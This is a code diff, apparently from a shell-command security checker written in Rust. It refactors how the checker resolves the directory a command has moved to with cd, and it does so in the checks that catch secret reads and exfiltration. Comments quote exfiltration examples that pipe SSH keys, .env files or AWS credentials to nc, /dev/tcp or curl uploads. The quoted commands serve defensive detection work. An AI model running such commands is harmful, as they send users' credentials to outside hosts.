@@ -1057,22 +1057,16 @@ impl Check for SecretRead {
                 format!("prints {s} in the error message of a `${{NAME?…}}` expansion"),
             ));
         }
-        // The directory the line moved to with `cd`/`pushd`, as written, and resolved (`None`
-        // after a move to a directory known only at run time).
-        let mut moved: Option<String> = None;
-        let mut unit_dir: Option<std::borrow::Cow<Path>> = Some(std::borrow::Cow::Borrowed(cx.cwd));
+        let dirs = cx.dirs();
         for (i, u) in cx.analysis.units.iter().enumerate() {
-            if let Some(d) = super::destructive::cd_target(u) {
-                unit_dir = match unit_dir {
-                    Some(cur) if !d.contains(['$', '`']) && d != "-" => {
-                        Some(std::borrow::Cow::Owned(
-                            crate::files::resolve_links_under(&d, &cur, cx.look).0,
-                        ))
-                    }
-                    _ => None,
-                };
-                moved = Some(d);
-            }
+            // The directories the unit may run in (`None`: one known only at run time).
+            let here = dirs.of(i);
+            let each_dir = |f: &dyn Fn(Option<&Path>) -> Option<String>| {
+                here.iter().find_map(|d| match d {
+                    super::workdir::DirRef::At(p) => f(Some(p)),
+                    _ => f(None),
+                })
+            };
             if let Some(s) = prints_secret(u) {
                 out.push(ask(Some(i), u.span, Risk::High, format!("prints {s}")));
                 continue;
@@ -1080,7 +1074,8 @@ impl Check for SecretRead {
             // `git config -l`, `git remote -v`, `cat .git/config`: a token kept in git's
             // configuration (an address's user part, `http.extraHeader`).
             let git_credential = if prog(u) == Some("git") {
-                git_config::prints_credential(cx.look, u, cx.cwd, moved.as_deref())
+                here.known()
+                    .find_map(|d| git_config::prints_credential(cx.look, u, d))
             } else {
                 u.args()
                     .filter_map(|a| a.value.as_deref())
@@ -1115,10 +1110,11 @@ impl Check for SecretRead {
                 continue;
             }
             // `prints_secret` was looked at above.
-            let moved_dir = unit_dir.as_deref().filter(|d| *d != cx.cwd);
             let read = reads_secret(u, false).or_else(|| {
-                let d = moved_dir?;
-                let w = home_archive_at(u, prog(u)?, Some(d))?;
+                let w = here
+                    .known()
+                    .filter(|d| *d != cx.start)
+                    .find_map(|d| home_archive_at(u, prog(u)?, Some(d)))?;
                 Some(format!(
                     "the files under `{w}` (where the line moved to), files of secrets included"
                 ))
@@ -1127,10 +1123,9 @@ impl Check for SecretRead {
             // from the directory the line moved to (one known only at run time is not walked).
             if read.is_none()
                 && let Some(why) =
-                    super::tree_search::search_reads_secret_file(u, unit_dir.as_deref(), cx)
-                        .or_else(|| {
-                            super::tree_search::history_prints_secret(u, moved.as_deref(), cx)
-                        })
+                    each_dir(&|d| super::tree_search::search_reads_secret_file(u, d, cx)).or_else(
+                        || each_dir(&|d| super::tree_search::history_prints_secret(u, d, cx)),
+                    )
             {
                 out.push(ask(Some(i), u.span, Risk::High, why));
                 continue;
@@ -1431,14 +1426,25 @@ fn is_secret_word(a: &Arg) -> bool {
 /// A secret read by the unit, with what the analysis knows around it: files its wrappers read
 /// (`xargs -a`) and the paths `xargs` is fed.
 fn reads_secret_in(cx: &CheckCtx, u: &Unit) -> Option<String> {
+    // Each directory known now that the unit may run in.
+    let here = cx
+        .analysis
+        .units
+        .iter()
+        .position(|x| std::ptr::eq(x, u))
+        .map(|k| cx.dirs().of(k));
+    let each = |f: &dyn Fn(&Path) -> Option<String>| match here {
+        Some(h) => h.known().find_map(f),
+        None => f(cx.start),
+    };
     wrapper_read_secret(u)
         .or_else(|| reads_secret(u, true))
         .or_else(|| fed_secret(cx.analysis, u))
-        .or_else(|| super::tree_search::search_reads_secret_file(u, Some(cx.cwd), cx))
-        .or_else(|| super::tree_search::history_prints_secret(u, None, cx))
+        .or_else(|| each(&|d| super::tree_search::search_reads_secret_file(u, Some(d), cx)))
+        .or_else(|| each(&|d| super::tree_search::history_prints_secret(u, Some(d), cx)))
         // `tar cf - notes | nc h p` with `notes -> ~/.ssh` in the workspace: the words name no
         // secret, the link does.
-        .or_else(|| super::link_read::secret_through_link(u, cx.cwd, cx))
+        .or_else(|| each(&|d| super::link_read::secret_through_link(u, d, cx)))
 }
 
 /// Options whose value is a key or certificate the tool uses, not data it sends; for the ssh
@@ -2084,23 +2090,7 @@ impl Check for SecretExfiltration {
         let holders = LazyCell::new(|| secret_var_copies(a));
         let substituted = LazyCell::new(|| substituted_vars(a));
         let copies = LazyCell::new(|| secret_copies(cx));
-        // The directory the line moved to with `cd`/`pushd`, resolved (`None` after a move to
-        // a directory known only at run time): a relative name is read there (`cd ~/.aws &&
-        // curl -T credentials …`).
-        let mut dir: Option<std::borrow::Cow<Path>> = None;
-        let mut known_dir = true;
         for (i, u) in a.units.iter().enumerate() {
-            if let Some(d) = super::destructive::cd_target(u) {
-                let cur = dir.take().unwrap_or(std::borrow::Cow::Borrowed(cx.cwd));
-                if known_dir && !d.contains(['$', '`']) && d != "-" {
-                    dir = Some(std::borrow::Cow::Owned(
-                        crate::files::resolve_links_under(&d, &cur, cx.look).0,
-                    ));
-                } else {
-                    known_dir = false;
-                }
-            }
-            let moved_dir = dir.as_deref().filter(|_| known_dir);
             // `cat ~/.ssh/id_rsa > /dev/tcp/host/port`: bash opens the connection itself;
             // `exec 5<>/dev/udp/host/53; cat .env >&5`: through a descriptor opened earlier.
             let to_socket = u.redirects.iter().any(|r| {
@@ -2451,7 +2441,7 @@ impl Check for SecretExfiltration {
             if let Some(s) = from_stdin
                 .map(str::to_owned)
                 .or(from_form.map(str::to_owned))
-                .or_else(|| moved_dir.and_then(|d| moved_secret(u, d)))
+                .or_else(|| moved_secret_where_moved(cx, i, u))
             {
                 out.push(deny(
                     Some(i),
@@ -2488,7 +2478,7 @@ impl Check for SecretExfiltration {
                     // `cat /tmp/e | nc host 9` after `cat .env > /tmp/e`: a copy read.
                     if let Some(s) = reads_secret_in(cx, r)
                         .or_else(|| copy_read(r, &copies).map(|c| c.what.clone()))
-                        .or_else(|| moved_dir.and_then(|d| moved_secret(r, d)))
+                        .or_else(|| moved_secret_where_moved(cx, j, r))
                     {
                         out.push(deny(
                             Some(i),
@@ -2505,6 +2495,19 @@ impl Check for SecretExfiltration {
             }
         }
     }
+}
+
+/// A secret unit `k`, `u`, names relatively ([`moved_secret`]) in the directory every earlier
+/// move of the line leads to (`cd ~/.aws && curl -T credentials …`: the line means to upload
+/// from there, even where a `cd` may fail); none when it has not moved or may run in a
+/// directory known only at run time. **Known gap**: a move inside a subshell counts after it
+/// (`(cd ~/.aws); curl -T credentials …` denies, though it uploads `./credentials`).
+fn moved_secret_where_moved(cx: &CheckCtx, k: usize, u: &Unit) -> Option<String> {
+    let here = cx.dirs().of(k);
+    if !here.moved() || here.unknown() {
+        return None;
+    }
+    moved_secret(u, here.known().next()?)
 }
 
 /// A secret a unit names relatively, read in `dir`, the directory an earlier `cd` of the line
